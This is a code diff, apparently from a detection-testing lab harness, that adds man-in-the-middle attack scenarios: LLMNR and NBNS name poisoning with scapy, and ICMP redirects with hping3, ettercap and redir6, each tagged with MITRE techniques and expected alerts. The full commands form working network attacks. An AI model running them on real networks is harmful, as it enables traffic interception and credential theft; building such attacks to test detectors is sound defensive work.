@@ -87,6 +87,52 @@ function forged(site: Site, command: string): Plan {
 
 const forgery = { class: 'names.forged', alerts: ['names.forged'], technique: 'T1557', speeds } as const;
 
+/** Alice looks for computers that are not; whoever is asked, evil says that it is the one. By scapy's `answer`, which takes its own address. */
+function poisoned(answer: string, ask: (site: Site, name: string) => string, needs: readonly string[]): Attack {
+  const names = ['filesrv', 'wpad', 'intranet', 'printer7', 'mailhost'];
+  return {
+    class: 'names.poisoned',
+    alerts: ['names.poisoned'],
+    technique: 'T1557.001',
+    tool: `scapy ${answer}`,
+    needs: ['scapy', ...needs],
+    speeds,
+    plan: (site) => ({
+      jobs: [
+        {
+          host: 'evil',
+          argv: ['timeout', '-s', 'INT', '15', '/usr/bin/python3', '-c', `from scapy.all import *; ${answer}(iface='eth0')`],
+        },
+        { host: 'alice', argv: ['bash', '-c', `sleep 4; ${names.map((name) => `${ask(site, name)} > /dev/null; sleep 0.5`).join('; ')}`] },
+      ],
+      attackers: [site.address('evil')],
+      victims: [site.address('alice')],
+      seconds: 18,
+    }),
+  };
+}
+
+/** Alice speaks with a host outside; evil tells her that the way there leads by itself. */
+function redirected(tool: string, command: (site: Site) => string): Attack {
+  return {
+    class: 'icmp.redirect',
+    alerts: ['icmp.redirect'],
+    technique: 'T1557',
+    tool,
+    needs: [tool],
+    speeds,
+    plan: (site) => ({
+      jobs: [
+        { host: 'alice', argv: ['ping', '-q', '-i', '0.5', '-c', '24', site.address('outside')] },
+        { host: 'evil', argv: ['bash', '-c', `sleep 3; exec timeout -s INT 8 ${command(site)}`] },
+      ],
+      attackers: [site.mac('evil')],
+      victims: [site.address('alice'), site.address('gateway')],
+      seconds: 16,
+    }),
+  };
+}
+
 export const neighbourAttacks: readonly Attack[] = [
   thc('rogue', 'ndp.rogue-router', 'fake_router6', 'T1557', () => 'eth0 fd00:bad::/64'),
   thc('rogue.dns', 'ndp.rogue-router', 'fake_router26', 'T1557', () => '-A fd00:bad::/64 -D fd00:bad::53 eth0'),
@@ -152,4 +198,20 @@ export const neighbourAttacks: readonly Attack[] = [
     needs: ['dnsspoof', 'dig'],
     plan: (site) => forged(site, 'exec timeout -s INT 20 dnsspoof -i eth0'),
   },
+  poisoned('llmnr_spoof', (_site, name) => `dig +noedns +norecurse +tries=1 +time=1 -p 5355 @224.0.0.252 ${name} A`, ['dig']),
+  poisoned('nbns_spoof', ({ net }, name) => `nmblookup -B ${net}.255 ${name}`, ['nmblookup']),
+  redirected(
+    'hping3',
+    (site) =>
+      `hping3 -q -I eth0 --icmp -C 5 -K 1 -c 5 -a ${site.address('gateway')} --icmp-gw ${site.address('evil')} ` +
+      `--icmp-ipsrc ${site.address('alice')} --icmp-ipdst ${site.address('outside')} ${site.address('alice')}`,
+  ),
+  redirected('ettercap', (site) => `ettercap -T -q -i eth0 -M icmp:${site.mac('gateway')}/${site.address('gateway')} < /dev/null`),
+  thc(
+    'redirect',
+    'icmp.redirect',
+    'redir6',
+    'T1557',
+    (site) => `eth0 ${site.address6('alice')} ${site.address6('web')} ${site.address6('gateway')} ${site.address6('evil')}`,
+  ),
 ];
